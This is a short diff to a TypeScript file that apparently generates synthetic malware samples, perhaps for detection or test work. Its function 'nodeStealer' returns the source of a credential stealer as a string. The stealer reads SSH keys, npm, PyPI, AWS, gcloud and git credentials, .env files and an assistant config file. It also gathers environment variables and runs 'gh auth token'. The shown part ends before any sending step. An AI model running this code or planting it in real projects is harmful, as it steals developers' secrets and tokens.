@@ -45,7 +45,7 @@ function decoys(seed: string, sizeBytes: number, render: (name: string, text: st
 /** What the bundle of a worm says before it is obfuscated. */
 export function nodeStealer(upload: string): string {
   return `const fs=require('fs'),os=require('os'),path=require('path'),cp=require('child_process'),https=require('https');
-const wanted=['.npmrc','.pypirc','.ssh/id_rsa','.ssh/id_ed25519','.aws/credentials','.config/gcloud/application_default_credentials.json','.git-credentials','.claude.json','.env'];
+const wanted=['.npmrc','.pypirc','.ssh/id_rsa','.ssh/id_ed25519','.aws/credentials','.config/gcloud/application_default_credentials.json','.git-credentials','.config/assistant.json','.env'];
 const loot={env:process.env,host:os.hostname(),user:os.userInfo().username,files:{}};
 for(const name of wanted){try{loot.files[name]=fs.readFileSync(path.join(os.homedir(),name),'utf8')}catch{}}
 try{loot.gh=cp.execSync('gh auth token').toString()}catch{}
